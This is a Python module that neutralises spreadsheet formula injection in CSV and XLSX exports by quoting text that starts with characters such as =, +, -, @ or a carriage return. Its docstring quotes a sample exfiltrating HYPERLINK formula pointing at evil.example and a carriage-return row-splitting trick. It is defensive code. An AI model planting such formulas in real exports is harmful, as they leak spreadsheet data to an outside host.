"""Spreadsheet formula injection: text that a spreadsheet would run as a formula is neutralised on export.

A CSV or XLSX cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or their
full-width forms, which some spreadsheets fold to ASCII) is read by Excel, LibreOffice and Google Sheets
as a formula: ``=HYPERLINK("http://evil.example/?"&A1, "click")`` in a variation name becomes a live link
that leaks the sheet. Following the OWASP CSV-injection guidance, such *text* is prefixed with a single
quote, which spreadsheets show as text. Only strings are touched: a negative number stays a number.
XLSX exports also write every string as a string cell (never a formula), see ``dashboards/exports.py``.
:func:`csv_text` also quotes a field holding a bare carriage return (Python's csv writer quotes only the
characters of its line terminator, ``\n`` here): unquoted, ``'\r=1+1`` splits into a new row that starts
with ``=1+1``, past the quote. Decision: docs/decisions/0038-exports-neutralise-formulas.md.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

__all__ = ["FORMULA_TRIGGERS", "csv_text", "is_formula_text", "neutralize_formula"]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""Leading characters that make a spreadsheet evaluate a cell (OWASP), plus full-width = + - @."""


def is_formula_text(value: Any) -> bool:
    """``value`` is a string a spreadsheet would evaluate as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def neutralize_formula(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is formula-leading text; anything else unchanged."""
    return "'" + value if is_formula_text(value) else value


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """``rows`` as CSV lines ending in ``\n``; a field with ``\r`` or ``\n`` in it is quoted (RFC 4180)."""
    line = io.StringIO()
    writer = csv.writer(line, lineterminator="\r\n")  # quotes fields holding \r or \n
    out = []
    for row in rows:
        line.seek(0)
        line.truncate()
        writer.writerow(row)
        out.append(line.getvalue()[:-2])
    return "".join(f"{text}\n" for text in out)
